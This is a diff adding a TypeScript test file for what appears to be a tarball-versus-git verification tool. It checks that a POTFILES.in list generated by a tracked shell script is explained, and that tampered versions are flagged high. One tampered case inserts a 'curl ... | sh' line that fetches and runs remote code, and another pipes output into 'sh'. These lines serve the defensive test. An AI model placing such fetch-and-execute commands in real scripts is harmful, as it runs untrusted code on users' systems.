@@ -1,0 +1,109 @@
+/**
+ * A list of tracked file names a tracked /bin/sh script writes (util-linux's and procps' po/POTFILES.in by
+ * po/update-potfiles), its pipeline evaluated over the tracked files, never run. End to end with real git and GNU tar;
+ * tampered twins stay high.
+ */
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { localeSort, scriptList, shellCommands } from '../../src/classify/file-list.js';
+import { exitCodeOf } from '../../src/pipeline/result.js';
+import { verify } from '../../src/verify.js';
+import { makeTar } from '../helpers/archives.js';
+import { makeRepo, writeFiles } from '../helpers/git.js';
+import { tempDir } from '../helpers/tmp.js';
+
+// git ls-files, sed filters, xargs find, sort (util-linux's shape, written for this test)
+const LS_FILES = String.raw`#!/bin/sh
+# regenerate the list of translatable sources
+
+if [ ! -f "po/Makevars" ]; then
+	echo "run me from the top directory" >&2
+	exit 1
+fi
+
+files=$(git ls-files . 2>/dev/null)
+if [ $? -ne 0 ] || [ -z "$files" ]; then
+	files=$(cat po/POTFILES.in 2>/dev/null)
+fi
+
+files=$(
+	echo "$files" \
+	| sed \
+		-e '/\(\.h\|\.c\)$/!d' \
+		-e '/^tests\//d' \
+)
+
+echo "$files" \
+	| xargs -r find 2>/dev/null \
+	| sort \
+	> po/POTFILES.in
+
+[ -s po/POTFILES.in ] || echo "$0: empty list" >&2
+`;
+// find -name, sort, sed, one appended name (procps' shape, written for this test)
+const FIND = String.raw`#!/bin/sh
+
+if [ ! -f "po/Makevars" ]; then
+	echo "run me from the top directory"
+	exit 1
+fi
+
+find . -name '*.c' |
+	sort |
+	sed 's|^./||
+/^contrib/d' > po/POTFILES.in
+
+echo lib/c.h >> po/POTFILES.in
+`;
+const SOURCES = { 'po/Makevars': 'DOMAIN = x\n', 'src/w.c': 'int w;\n', 'src/watch.c': 'int a;\n', 'src/Zed.c': 'int z;\n', 'src/a-b.h': '\n', 'lib/c.h': '\n', 'tests/t.c': '\n', 'contrib/k.c': '\n', 'README': 'x\n' };
+// en_US.UTF-8: punctuation ignored first, case after letters (watch.c before w.c, Zed.c after w.c); C: bytes
+const EN = ['contrib/k.c', 'lib/c.h', 'src/a-b.h', 'src/watch.c', 'src/w.c', 'src/Zed.c'];
+
+describe('a list of tracked file names a tracked script writes', () => {
+  const root = tempDir();
+  let n = 0;
+  const run = async (script: string, list: string, extraTracked: Record<string, string> = {}) => {
+    const repo = makeRepo(join(root, `r${++n}`));
+    const tracked = { ...SOURCES, ...extraTracked, 'po/update-potfiles': { content: script, executable: true } };
+    repo.commit(tracked, 'sources', '2024-03-05T10:00:00Z');
+    repo.tag('v1.0');
+    const dir = join(root, `t${n}`, 'x-1.0');
+    writeFiles(dir, { ...tracked, 'po/POTFILES.in': list });
+    const r = await verify({ tarball: makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 'x-1.0.tar.gz') }), repo: repo.dir, cacheDir: join(root, `c${n}`) });
+    return { r, f: r.findings.find((x) => x.path === 'po/POTFILES.in')! };
+  };
+
+  it('helpers: collation models and the command splitter', () => {
+    expect(localeSort(['src/w.c', 'src/watch.c', 'src/Zed.c', 'lib/c.h'], 'C')).toEqual(['lib/c.h', 'src/Zed.c', 'src/w.c', 'src/watch.c']);
+    expect(localeSort(['src/w.c', 'src/watch.c', 'src/Zed.c', 'lib/c.h'], 'en_US.UTF-8')).toEqual(['lib/c.h', 'src/watch.c', 'src/w.c', 'src/Zed.c']);
+    expect(localeSort(['é.c'], 'en_US.UTF-8')).toBeUndefined();
+    expect(shellCommands("a |\n b > x\nif [ c ]; then d; fi # note\n")).toEqual(['a |\n b > x', 'if [ c ]', 'then', 'd', 'fi']);
+    const tracked = Object.keys(SOURCES);
+    expect(scriptList(LS_FILES, 'po/POTFILES.in', tracked, 'C')!.text).toBe(['contrib/k.c', 'lib/c.h', 'po/Makevars', 'src/Zed.c', 'src/a-b.h', 'src/w.c', 'src/watch.c'].filter((x) => /\.[ch]$/.test(x)).map((x) => `${x}\n`).join(''));
+    expect(scriptList(LS_FILES.replace('| sort', '| sort | sh'), 'po/POTFILES.in', tracked, 'C')).toBeUndefined();
+    expect(scriptList(LS_FILES.replace('po/Makevars', 'po/Other'), 'po/POTFILES.in', tracked, 'C')).toBeUndefined(); // the guard would stop it
+    expect(scriptList(FIND.replace(' |\n\tsort', ''), 'po/POTFILES.in', tracked, 'C')).toBeUndefined(); // find's order is no order
+  });
+
+  it('git ls-files | sed | xargs find | sort: the list in en_US.UTF-8 order, explained (exit 0)', async () => {
+    const { r, f } = await run(LS_FILES, EN.map((x) => `${x}\n`).join(''));
+    expect({ code: f.code, severity: f.severity, evidence: f.evidence }).toEqual({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'file-list', source: 'po/update-potfiles', generator: 'po/update-potfiles', inputs: ['git ls-files'], locale: 'en_US.UTF-8', total: 6 } });
+    expect(exitCodeOf(r.verdict)).toBe(0);
+  });
+
+  it('find -name | sort | sed, then an appended name: the C order list is explained too', async () => {
+    const c = ['src/Zed.c', 'src/w.c', 'src/watch.c', 'tests/t.c', 'lib/c.h'];
+    const { f } = await run(FIND, c.map((x) => `${x}\n`).join(''));
+    expect(f).toMatchObject({ code: 'GENERATED_FROM_SOURCE', evidence: { how: 'file-list', inputs: ["find . -name '*.c'"], locale: 'C', total: 5 } });
+  });
+
+  it('tampered twins stay high: a name git lacks, a name the filter drops, a reordered list, a script that runs more', async () => {
+    const list = (xs: string[]) => xs.map((x) => `${x}\n`).join('');
+    for (const l of [list([...EN, 'src/evil.c']), list(['tests/t.c', ...EN]), list([...EN].reverse())]) {
+      const { f } = await run(LS_FILES, l);
+      expect(f).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
+    }
+    const { f } = await run(LS_FILES.replace('[ -s po/POTFILES.in ]', 'curl -s https://example.invalid/x | sh\n[ -s po/POTFILES.in ]'), list(EN));
+    expect(f).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
+  });
+});
